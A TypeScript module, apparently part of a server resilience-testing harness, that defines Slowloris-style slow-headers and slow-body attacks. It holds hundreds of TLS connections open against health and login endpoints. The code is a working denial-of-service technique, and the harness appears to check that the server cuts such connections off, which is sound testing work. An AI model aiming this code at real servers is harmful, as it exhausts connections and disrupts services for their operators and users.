import type { Socket } from "node:net";
import { type Attack, scaled, sourceOf, type Target } from "../attack.ts";
import { bytesOf, keepStanding, openSecure } from "../connection.ts";

/** Sends the beginning, and then another piece every second. */
function sendSlowly(target: Target, beginning: Buffer | string, piece: string): Socket {
	const socket = openSecure(target, sourceOf(target, 0));
	socket.once("secureConnect", () => {
		socket.write(beginning);
		const timer = setInterval(() => socket.write(piece), 1000);
		socket.once("close", () => clearInterval(timer));
	});
	socket.resume();
	return socket;
}

/** Requests that never arrive completely. */
export const SLOWNESS: readonly Attack[] = [
	{
		name: "slow-headers",
		title: "500 requests whose headers come line by line",
		isCutOff: true,
		run: (target, counts, over) =>
			keepStanding(
				{
					standing: scaled(target, 500),
					perTick: 10,
					open: () => sendSlowly(target, "GET /api/v1/health HTTP/1.1\r\nHost: a\r\n", "x-more: a\r\n"),
				},
				counts,
				over,
			),
	},
	{
		name: "slow-bodies",
		title: "256 requests whose body comes byte by byte",
		isCutOff: true,
		run(target, counts, over) {
			const headers = { "content-type": "application/json", "content-length": "100000" };
			const beginning = bytesOf({ method: "POST", path: "/api/v1/auth/login", headers });
			const open = () => sendSlowly(target, beginning, " ");
			return keepStanding({ standing: scaled(target, 256), perTick: 10, open }, counts, over);
		},
	},
];
